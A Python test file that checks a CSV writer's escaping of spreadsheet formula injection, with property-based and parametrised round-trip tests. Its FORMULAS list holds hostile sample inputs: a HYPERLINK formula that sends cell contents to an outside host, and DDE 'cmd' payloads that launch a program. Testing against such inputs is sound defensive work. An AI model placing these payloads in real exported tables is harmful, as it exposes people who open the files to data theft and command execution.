"""Labels and file names that a spreadsheet would run as formulas, in tables that people open."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from spectag.data.readers.delimited_text import open_table, read_text
from spectag.system.output import csv_writer, escape_formula, unescape_formula

FORMULAS = (
    '=HYPERLINK("http://example.org?"&A1)',
    "+1+cmd|'/c calc'!A0",
    "-2+3+cmd|' /c calc'!A0",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "'=1",
    "''-a",
    "-",
    "--help.wav",
)
any_text = st.text() | st.sampled_from(FORMULAS) | st.text(alphabet="'=+-@\t1e. ")


def is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


@given(text=any_text)
def test_every_text_can_be_read_back(text):
    assert unescape_formula(escape_formula(text)) == text


@given(text=any_text)
def test_no_escaped_text_starts_a_formula(text):
    escaped = escape_formula(text)
    assert escaped[:1] not in tuple("=+-@\t\r\n＝＋－＠") or is_number(escaped)


@pytest.mark.parametrize(
    "text", ["-3.2", "+4", "-1e-5", ".5", "-12", "0", "'", "'Dog'", "rock'n'roll", "Dog", "", "a=b"]
)
def test_numbers_and_ordinary_texts_do_not_change(text):
    assert escape_formula(text) == text == unescape_formula(text)


@pytest.mark.parametrize("text", FORMULAS)
def test_table_with_a_formula_is_read_back_exactly(tmp_path, text):
    out = io.StringIO(newline="")
    write_row = csv_writer(out)
    write_row(["fname", text.strip() or "a"])
    write_row([text, "-3.2"])
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue(), newline="")) for cell in row]
    assert [cell for cell in cells if cell[:1] in "=+-@\t\r\n＝"] == ["-3.2"]
    (tmp_path / "a.csv").write_text(out.getvalue(), newline="")
    table = open_table(tmp_path / "a.csv", read_text(tmp_path / "a.csv"), ",")
    assert [fields for _, fields in table.records] == [[text, "-3.2"]]
